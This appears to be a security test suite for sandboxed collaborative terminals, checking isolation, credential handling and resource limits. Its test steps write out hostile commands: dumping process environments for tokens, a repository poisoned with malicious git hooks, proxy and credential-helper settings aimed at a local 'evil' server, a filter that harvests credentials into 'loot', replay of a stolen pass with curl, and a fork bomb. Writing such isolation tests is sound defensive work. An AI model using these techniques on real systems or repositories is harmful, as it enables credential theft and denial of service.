import { execFile } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { statfs } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { promisify } from 'node:util';
import {
  changeTerminal,
  closeTerminal,
  disconnectAccount,
  getMe,
  handOverTerminal,
  listTerminals,
  type Project,
} from '@notelab/contract';
import { type Client, createWorld, openTerminalPage, type World } from '@notelab/dev-env';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { connectProject } from './a-connected-project.ts';
import { openedTerminal } from './an-open-terminal.ts';
import { inTerminal } from './in-a-terminal.ts';
import { linkAs } from './link-as.ts';

const run = promisify(execFile);
const mebibyte = 2 ** 20;
const idleMs = 5_000;
let world: World;
/** Ada’s terminal is the admin’s, Eve’s the editor’s. */
let ada: Client;
let eve: Client;
let project: Project;

beforeAll(async () => {
  process.env.NOTELAB_PLANTED = 'planted-0123456789';
  world = await createWorld({
    config: {
      terminals: {
        idleMs,
        memoryBytes: 600 * mebibyte,
        processes: 120,
        diskReserveBytes: 0,
        checkEveryMs: 250,
      },
    },
  });
  ada = await world.signInLinked('admin', 'maintainer');
  eve = await world.signInLinked('editor', 'developer');
  ({ project } = await connectProject(world, ada, 'acme/analytics'));
});
afterAll(async () => {
  delete process.env.NOTELAB_PLANTED;
  await world?.close();
});

type Opened = Awaited<ReturnType<typeof openedTerminal>>;
const open = (client: Client): Promise<Opened> => openedTerminal(client, project);
const close = async (client: Client, { page, in: inTerminal }: Opened) => {
  page.close();
  await client.call(closeTerminal, inTerminal);
};
const repository = () => `${world.sandbox.url}/acme/analytics.git`;
const gatewayRepository = () => `${world.notelab.context.gateway.urlFor(world.instanceId)}acme/analytics.git`;
/** What the credential helper hands to git in this terminal. */
const askForPass = async ({ page }: Opened) => {
  const question = `url=${gatewayRepository()}\\n\\n`;
  const { output } = await page.run(`printf '${question}' | git credential fill`);
  return /password=(nlp_\S+)/.exec(output)?.[1] ?? null;
};
const fetchWith = (pass: string) => {
  const authorization = `Basic ${Buffer.from(`notelab:${pass}`).toString('base64')}`;
  const address = `${gatewayRepository()}/info/refs?service=git-upload-pack`;
  return `curl -s -o /dev/null -w '%{http_code}\\n' -H 'Authorization: ${authorization}' '${address}'`;
};

describe('what a terminal holds', () => {
  it('is no token and nothing of the server, in its environment, its processes and its files', async () => {
    const opened = await open(ada);
    await opened.page.run(
      `cd analytics && git fetch -q && git commit -q --allow-empty -m x && git push -q; cd ..`,
    );
    const { accounts } = world.notelab.context;
    const { user } = await ada.call(getMe);
    const account = (await accounts.find(user.id, world.instanceId))!;
    const token = (await accounts.accessToken(account.id)).reveal();
    const { output } = await opened.page.run(
      'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" "\\n"; cat ~/.[a-z]* ~/* /run/notelab/* 2>/dev/null; ls -R /run /tmp /var /root /srv /mnt 2>&1',
    );
    expect(output).toContain('GIT_CONFIG_VALUE_0=/run/notelab/gitconfig');
    for (const secret of [token, 'planted-0123456789', 'nlp_', 'secret.key', 'DATABASE_URL'])
      expect(output.includes(secret), secret).toBe(false);
    const { root } = world.notelab.context.projects.filesOf(project.id);
    const found = await run('grep', ['-rlaF', '-e', token, '-e', 'nlp_', root]).catch((error) => error);
    expect(found).toMatchObject({ code: 1, stdout: '' });
    await close(ada, opened);
  });

  it('cannot be written where Notelab tells it something, nor outside the project and its own folders', async () => {
    const opened = await open(eve);
    const places = '/run/notelab /usr /etc /opt/notelab /proc/sys/kernel /dev / .. /home';
    const { output } = await opened.page.run(
      `for each in ${places}; do (: > $each/was-here) 2>/dev/null && echo wrote $each; done; rm -f /run/notelab/gitconfig; ls /run/notelab/gitconfig`,
    );
    expect(output).not.toContain('wrote');
    expect(output).toMatch(/\n\/run\/notelab\/gitconfig\n$/);
    await close(eve, opened);
  });

  it('has no open file but its own screen, however many were opened before', async () => {
    const first = await open(ada);
    const second = await open(eve);
    const { output } = await second.page.run('ls -l /proc/$$/fd | grep -vE " -> /dev/(pts/[0-9]+|console)$"');
    expect(output).toBe('total 0\n');
    await close(ada, first);
    await close(eve, second);
  });
});

describe('somebody else’s terminal in the same project', () => {
  it('shows nothing of its processes, temporary files, home, screen and socket', async () => {
    const hers = await open(ada);
    await hers.page.run(
      'export MINE=ada-secret; echo ada-secret | tee ~/mine /tmp/mine /dev/shm/mine >/dev/null; (MINE=ada-secret sleep 4141 &)',
    );
    const mine = await open(eve);
    const { output } = await mine.page.run(
      'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" "\\n"; cat ~/mine /tmp/mine /dev/shm/mine; ls -A /home /home/notelab /tmp /run /run/notelab /dev/pts; echo ada was here > /dev/pts/0',
    );
    expect(output).not.toContain('ada-secret');
    expect(output).not.toContain('4141');
    expect(hers.page.text()).not.toContain('ada was here');
    await close(ada, hers);
    await close(eve, mine);
  });

  it('cannot use a pass that was seen on its screen; where it was made, it works until its terminal ends', async () => {
    const hers = await open(ada);
    const mine = await open(eve);
    const pass = await askForPass(hers);
    expect(pass).not.toBeNull();
    expect((await hers.page.run(fetchWith(pass!))).output.trim()).toBe('200');
    expect((await mine.page.run(fetchWith(pass!))).output.trim()).toBe('403');
    const { stdout } = await run('sh', ['-c', fetchWith(pass!)]);
    expect(stdout.trim()).toBe('403');
    await close(ada, hers);
    expect((await mine.page.run(fetchWith(pass!))).output.trim()).toBe('401');
    await close(eve, mine);
  });

  it('is as safe from a process of the project that is no terminal, as a kernel would be', async () => {
    const hers = await open(ada);
    const pass = await askForPass(hers);
    const seen = await inTerminal(
      world,
      project,
      `printf 'url=${gatewayRepository()}\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>&1 || true
       ls -A /run /home 2>&1 || true; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' || true
       ${fetchWith(pass!)}`,
    );
    expect(seen).not.toContain('password=');
    expect(seen).not.toContain('NOTELAB_CREDENTIAL_SOCKET');
    expect(seen.split('\n').at(-1)).toBe('403');
    await close(ada, hers);
  });
});

describe('a repository that a collaborator has prepared', () => {
  let evil: Server;
  let heard: string[];

  beforeAll(async () => {
    heard = [];
    evil = createServer(async (req, res) => {
      heard.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n${await text(req)}`);
      res.writeHead(401, { 'www-authenticate': 'Basic realm="GitLab"' }).end();
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => evil.close());

  it('gets no pass by its configuration, and none of its hooks runs', async () => {
    const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    const gateway = world.notelab.context.gateway.url;
    const eves = await open(eve);
    await eves.page.run(
      [
        'cp -r analytics poisoned && cd poisoned',
        `git config http.proxy ${evilUrl}`,
        `git config http.${gatewayRepository()}.proxy ${evilUrl}`,
        `git config credential.${gatewayRepository()}.helper '!echo ran >> ../ran; cat >> ../ran; true'`,
        "git config credential.helper '!cat >> ../asked; true'",
        `git config url.${evilUrl}/.insteadOf ${gateway}/`,
        `git config url.${evilUrl}/longer/.insteadOf ${repository()}`,
        "git config core.fsmonitor 'echo ran >> ../ran'",
        "git config core.editor 'echo ran >> ../ran #'",
        "git config core.pager 'echo ran >> ../ran #'",
        "git config core.sshCommand 'echo ran >> ../ran #'",
        'mkdir -p .git/hooks',
        "for each in pre-commit post-commit pre-push post-checkout reference-transaction; do printf '#!/bin/sh\\necho ran >> ../ran\\n' > .git/hooks/$each; chmod +x .git/hooks/$each; done",
        'cd ..',
      ].join('; '),
    );
    const adas = await open(ada);
    const { output } = await adas.page.run(
      'cd poisoned; git status -s | cat; git --no-pager log -1 --format=ok-%h; git commit -q --allow-empty -m x; git fetch; git push; git push origin HEAD:y; git branch z; cd ..; cat asked ran',
    );
    expect(output).toMatch(/^ok-\w+\n/);
    expect(output).toMatch(/cat: ran: No such file/);
    expect(output).not.toMatch(/password|nlp_/);
    // What it sends git to may ask for a password, but git asks nobody.
    expect(output).toContain('terminal prompts disabled');
    expect(heard.length).toBeGreaterThan(0);
    expect(heard.join('\n')).not.toMatch(/authorization/i);
    await close(eve, eves);
    await close(ada, adas);
  });

  it('that takes the pass to another process of the same machine gains nothing there', async () => {
    // A repository can make programs of its choice run by a filter; what they hand out is of no use elsewhere.
    const adas = await open(ada);
    const eves = await open(eve);
    await eves.page.run(
      `cp -r analytics filtered; git -C filtered config filter.x.clean "printf 'url=${gatewayRepository()}\\n\\n' | git credential fill >> $PWD/loot; cat"; echo 'README.md filter=x' > filtered/.gitattributes; touch filtered/README.md`,
    );
    await adas.page.run('git -C filtered add .');
    const loot = (await eves.page.run('cat loot')).output;
    const pass = /password=(nlp_\S+)/.exec(loot)?.[1];
    expect(pass).toBeDefined();
    expect((await eves.page.run(fetchWith(pass!))).output.trim()).toBe('403');
    await eves.page.run('rm -rf loot filtered poisoned');
    await close(eve, eves);
    await close(ada, adas);
  });
});

describe('a pass', () => {
  it('dies when somebody else may type where it was made', async () => {
    const opened = await open(ada);
    const pass = await askForPass(opened);
    expect((await opened.page.run(fetchWith(pass!))).output.trim()).toBe('200');
    await ada.call(changeTerminal, { ...opened.in, body: { shared: true } });
    const { user } = await eve.call(getMe);
    const guest = await openTerminalPage(eve, opened.terminal.id);
    await ada.call(handOverTerminal, { ...opened.in, body: { userId: user.id } });
    await guest.until(() => guest.typingAllowed() === true, 'leave to type');
    expect((await guest.run(fetchWith(pass!))).output.trim()).toBe('401');
    expect(await askForPass({ ...opened, page: guest })).toBeNull();
    guest.close();
    await close(ada, opened);
  });

  it('dies when its owner disconnects the account', async () => {
    const opened = await open(eve);
    const pass = await askForPass(opened);
    expect((await opened.page.run(fetchWith(pass!))).output.trim()).toBe('200');
    await eve.call(disconnectAccount, { params: { instanceId: world.instanceId } });
    expect((await opened.page.run(fetchWith(pass!))).output.trim()).toBe('401');
    await linkAs(world, eve, 'developer');
    expect((await opened.page.run(fetchWith(pass!))).output.trim()).toBe('401');
    expect(await askForPass(opened)).not.toBeNull();
    await close(eve, opened);
  });
});

describe('what one terminal does to the machine', () => {
  const answersSoon = async () => {
    const startedAt = performance.now();
    await eve.call(getMe);
    return performance.now() - startedAt;
  };

  it('a fork bomb stops at its own limit: the server answers, and others’ git works', async () => {
    const bomb = await open(ada);
    bomb.page.type('f() { f | f & }; f\n');
    await bomb.page.until(() => bomb.page.text().includes('Resource temporarily unavailable'), 'the limit');
    expect(await answersSoon()).toBeLessThan(5_000);
    const other = await open(eve);
    expect(await other.page.run('git -C analytics fetch')).toMatchObject({ exitCode: 0 });
    await close(ada, bomb);
    await close(eve, other);
    expect(await processesNamed(bomb.terminal.id)).toBe(0);
  });

  it('one process that wants too much memory is refused; many are ended one by one, with a word', async () => {
    const opened = await open(ada);
    const alone = await opened.page.run('head -c 2G /dev/zero | tail');
    expect(alone.exitCode).not.toBe(0);
    expect(alone.output).toContain('memory exhausted');
    opened.page.type('for i in 1 2 3 4; do (head -c 250M /dev/zero; sleep 100) | tail & done\n');
    const word = 'Notelab ended “tail”: this terminal used more than 0.6 GiB of memory.';
    await opened.page.until(() => opened.page.text().includes(word), 'a word');
    expect((await opened.page.run('kill %1 %2 %3 %4 2>/dev/null; echo alive')).output).toContain('alive');
    await close(ada, opened);
  });

  it('files in memory have their limits, too', async () => {
    const opened = await open(ada);
    const { output } = await opened.page.run('df -B1 --output=size /tmp /dev/shm | tail -n 2 | sort -u');
    expect(Number(output)).toBe(1024 * mebibyte);
    opened.page.type('head -c 900M /dev/zero > /tmp/large\n');
    await opened.page.until(() => opened.page.ended() !== null, 'the end');
    expect(opened.page.ended()).toBe(
      'Notelab ended the terminal: this terminal used more than 0.6 GiB of memory.',
    );
    await close(ada, opened);
  });

  it('who fills the disk is ended before it is full', async () => {
    const { settings, free } = {
      settings: world.notelab.context.config.terminals,
      free: await statfs(world.dataDir),
    };
    settings.diskReserveBytes = free.bavail * free.bsize - 200 * mebibyte;
    const opened = await open(ada);
    const bystander = await open(eve);
    opened.page.type('head -c 8G /dev/zero > large\n');
    const word = 'Notelab ended “head”: the server’s disk is running full.';
    await opened.page.until(() => opened.page.text().includes(word), 'a word');
    settings.diskReserveBytes = 0;
    expect(await opened.page.run('rm large')).toMatchObject({ exitCode: 0 });
    expect((await bystander.page.run('echo unharmed')).output).toBe('unharmed\n');
    await close(ada, opened);
    await close(eve, bystander);
  });

  it('one that nobody has open ends after a while, and one that is open does not', async () => {
    const left = await open(ada);
    const kept = await open(ada);
    left.page.close();
    const endOf = async ({ terminal }: Opened) =>
      (await ada.call(listTerminals, { params: { projectId: project.id } })).find(
        ({ id }) => id === terminal.id,
      )?.ended;
    await vi.waitFor(async () => expect(await endOf(left)).toMatch(/^Nobody had this terminal open for/), {
      timeout: idleMs * 4,
      interval: 200,
    });
    expect(await endOf(kept)).toBeNull();
    await ada.call(closeTerminal, left.in);
    await close(ada, kept);
  });

  it('nothing of them all is left', async () => {
    expect(await ada.call(listTerminals, { params: { projectId: project.id } })).toEqual([]);
    expect(readdirSync(join(world.dataDir, 'notelab/terminals'))).toEqual([]);
  });
});

/** Processes whose command line names the terminal’s home: bubblewrap, that is, and with it the whole jail. */
async function processesNamed(terminalId: string): Promise<number> {
  const { stdout } = await run('sh', [
    '-c',
    `cat /proc/[0-9]*/cmdline 2>/dev/null | grep -ac ${terminalId}-[1] || true`,
  ]);
  return Number(stdout);
}
